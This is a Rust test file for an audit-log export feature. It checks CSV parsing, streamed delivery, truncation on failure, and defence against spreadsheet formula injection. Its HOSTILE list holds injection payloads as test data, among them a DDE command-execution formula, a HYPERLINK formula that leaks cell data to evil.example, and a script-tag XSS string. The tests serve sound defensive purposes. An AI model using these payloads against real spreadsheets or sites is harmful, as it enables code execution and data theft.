//! The export: whole, streamed, harmless in a spreadsheet, and never half of one that looks whole.

use std::collections::BTreeMap;
use std::sync::Arc;

use countersign_tests::call_hooks::Breakage;
use countersign_tests::{App, Person, Setup, http_from};
use local::dynamodb::Intervention;
use serde_json::{Value, json};

use super::call;

/// Reads CSV as RFC 4180 has it, and nothing more lenient.
fn parse(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row) = (Vec::new(), Vec::new());
    let mut rest = text;
    while !rest.is_empty() {
        let cell;
        if let Some(quoted) = rest.strip_prefix('"') {
            let mut end = 0;
            loop {
                end += quoted[end..].find('"').expect("a quoted cell ends");
                if !quoted[end + 1..].starts_with('"') {
                    break;
                }
                end += 2;
            }
            cell = quoted[..end].replace("\"\"", "\"");
            rest = &quoted[end + 1..];
        } else {
            let end = rest.find([',', '\r', '\n', '"']).expect("a row ends");
            cell = rest[..end].to_owned();
            rest = &rest[end..];
        }
        row.push(cell);
        if let Some(more) = rest.strip_prefix(',') {
            rest = more;
        } else {
            rest = rest.strip_prefix("\r\n").expect("a row ends with CRLF");
            rows.push(std::mem::take(&mut row));
        }
    }
    assert!(row.is_empty(), "the last row does not end");
    rows
}

/// Returns whether a spreadsheet would take a cell for a formula.
fn is_formula(cell: &str) -> bool {
    cell.trim_start()
        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || cell.starts_with(['\t', '\r', '\n'])
}

/// The rows of an export, each cell by its column.
fn rows(csv: &str) -> Vec<BTreeMap<String, String>> {
    let mut rows = parse(csv).into_iter();
    let head = rows.next().unwrap();
    rows.map(|row| {
        assert_eq!(row.len(), head.len(), "{row:?}");
        for cell in &row {
            assert!(!is_formula(cell), "a formula: {cell:?}");
        }
        let mut row: BTreeMap<_, _> = head.iter().cloned().zip(row).collect();
        // In which order the parts of an object stand is nobody's concern.
        let changes = row.get_mut("changes").unwrap();
        if let Ok(json) = serde_json::from_str::<Value>(changes) {
            *changes = json.to_string();
        }
        row
    })
    .collect()
}

/// An event of the list, as a row has it: what would be a formula behind an apostrophe.
fn row(event: &Value) -> BTreeMap<String, String> {
    let text = |value: &Value| match value {
        Value::Null => String::new(),
        Value::String(text) if is_formula(text) => format!("'{text}"),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    };
    let mut row = BTreeMap::new();
    for (name, value) in event.as_object().unwrap() {
        match name.as_str() {
            "actor" | "object" => {
                for part in ["kind", "id", "name"] {
                    row.insert(format!("{name}_{part}"), text(&value[part]));
                }
            }
            "changes" if *value == json!({}) => {
                row.insert(name.clone(), String::new());
            }
            _ => {
                row.insert(name.clone(), text(value));
            }
        }
    }
    row
}

async fn export(person: &Person, format: &str, query: &str) -> String {
    let path = format!("/admin/audit/export?format={format}&{query}");
    let reply = person.get(&path).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    reply.body
}

/// Names that a spreadsheet, a shell or a parser would make something of.
const HOSTILE: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2-3",
    "@SUM(1+1)*cmd",
    "＝1＋1",
    "'=1+1",
    "''",
    "\"quoted\", \"twice\"",
    "a,b;c\td",
    "\"",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "<script>alert(1)</script>",
    "grüße 😀 \u{202e}txt",
    "%0A=1",
];

#[tokio::test]
async fn a_csv_holds_what_the_list_holds_and_no_formula() {
    let app = App::with_people().await;
    let ada = app.sign_in("ada").await;
    let mut modules = Vec::new();
    for (number, name) in HOSTILE.into_iter().enumerate() {
        // The tab is refused where people name things; a user agent may have it.
        let agent: &'static str = name;
        let agent = if agent.is_ascii() { agent } else { "=plain" };
        let person = ada.clone().with("user-agent", agent);
        let name = name.replace('\t', " ");
        person.new_client(&json!({"name": name})).await;
        modules.push(json!({"key": format!("module-{number}"), "name": name}));
        let described = format!("{name} again");
        let new = [("description", described.as_str())];
        app.owner().post("/clients/add", &new).await.ok();
        let value = [("key", "k"), ("value", name.as_str())];
        app.owner().post("/settings/set_default", &value).await.ok();
        let body = json!({"name": name});
        ada.patch(&format!("/admin/administrators/{}", ada.id), &body)
            .await
            .fine();
        call(&app.caller("owner", "wrong"), "/clients/list", &[]).await;
    }
    let modules = json!({"modules": modules});
    ada.put("/admin/modules", &modules).await.fine();
    let csv = export(&ada, "csv", "").await;
    let events = ada.audit("limit=200").await;
    let wanted: Vec<_> = events.iter().map(row).collect();
    assert_eq!(rows(&csv), wanted);
    let apostrophes = csv.matches("\"'").count();
    assert!(apostrophes > 20, "{apostrophes} cells were made harmless");
}

#[tokio::test]
async fn a_csv_holds_the_values_of_settings_with_line_breaks() {
    let app = App::with_people().await;
    let dora = app.sign_in("dora").await;
    for (key, value) in [("a\r\n=b", "one\r\ntwo"), ("quote\"", "\"\r\n\"")] {
        let given = [("key", key), ("value", value)];
        let reply = app.owner().post("/settings/set_default", &given).await;
        // Keys may be refused, values not.
        if reply.json()["stat"] == "error" {
            reply.invalid("key");
            let given = [("key", "plain"), ("value", value)];
            app.owner().post("/settings/set_default", &given).await.ok();
        }
    }
    let wanted: Vec<_> = dora.audit("limit=200").await.iter().map(row).collect();
    assert_eq!(rows(&export(&dora, "csv", "").await), wanted);
}

/// An application with thousands of events.
async fn large(hook: Option<Arc<Breakage>>) -> (App, Person) {
    let mut setup = Setup::with_people();
    let clients = setup.seed["applications"][0]["clients"].as_array_mut();
    clients
        .unwrap()
        .extend((0..4_000).map(|number| json!({"description": format!("client {number}")})));
    setup.hook = hook.map(|hook| hook as _);
    let app = App::with(setup).await;
    let dora = app.sign_in("dora").await;
    (app, dora)
}

#[tokio::test]
async fn thousands_of_events_arrive_whole_in_pieces() {
    let (_app, dora) = large(None).await;
    for format in ["csv", "ndjson"] {
        let path = format!("/admin/audit/export?format={format}");
        let reply = dora.get(&path).await;
        assert_eq!(reply.header("transfer-encoding"), "chunked");
        assert_eq!(reply.header("content-length"), "");
        let head = usize::from(format == "csv");
        let lines: std::collections::BTreeSet<_> = reply.body.lines().skip(head).collect();
        // The import of the application, of 4,007 clients and four people, and one session.
        assert_eq!(lines.len(), 1 + 4_007 + 4 + 1, "{format}");
    }
    let listed: Vec<_> = dora.audit("limit=200").await.iter().map(row).collect();
    assert_eq!(rows(&export(&dora, "csv", "").await), listed);
    let filtered = export(
        &dora,
        "csv",
        "object=client+77&from=2036-11-21T00%3A00%3A00Z",
    )
    .await;
    assert_eq!(rows(&filtered).len(), 1);
    assert_eq!(
        rows(&export(&dora, "csv", "outcome=refused").await).len(),
        0
    );
}

#[tokio::test]
async fn an_export_that_breaks_in_the_middle_does_not_end_like_a_whole_one() {
    let breakage = Arc::new(Breakage::default());
    let (app, dora) = large(Some(breakage.clone())).await;
    for format in ["csv", "ndjson"] {
        let place = ["admin.audit.export", "Query"];
        breakage.begin(place, Intervention::FailBefore, 10, usize::MAX);
        let url = format!("{}/admin/audit/export?format={format}", app.url());
        let request = http_from("127.0.0.1").get(url).bearer_auth(&dora.token);
        let mut response = request.send().await.unwrap();
        assert_eq!(response.status(), 200, "it had begun well");
        let mut received = Vec::new();
        let broken = loop {
            match response.chunk().await {
                Ok(Some(piece)) => received.extend_from_slice(&piece),
                Ok(None) => break false,
                Err(_) => break true,
            }
        };
        assert!(breakage.end() > 0);
        assert!(broken, "{format}: {} bytes look like all", received.len());
        assert!(!received.is_empty(), "nothing went out before the fault");
    }
    // And one that breaks before it begins is cut off too, or an error.
    breakage.begin(
        ["admin.audit.export", "Query"],
        Intervention::FailBefore,
        0,
        usize::MAX,
    );
    let url = format!("{}/admin/audit/export?format=csv", app.url());
    let request = http_from("127.0.0.1").get(url).bearer_auth(&dora.token);
    if let Ok(response) = request.send().await {
        assert!(response.status() == 500 || response.bytes().await.is_err());
    }
    assert!(breakage.end() > 0);
}

#[tokio::test]
async fn an_export_whose_reader_goes_away_harms_nobody() {
    let (app, dora) = large(None).await;
    for _ in 0..3 {
        let url = format!("{}/admin/audit/export?format=csv", app.url());
        let request = http_from("127.0.0.1").get(url).bearer_auth(&dora.token);
        let mut response = request.send().await.unwrap();
        assert!(response.chunk().await.unwrap().is_some());
    }
    dora.get("/admin/me").await.fine();
}
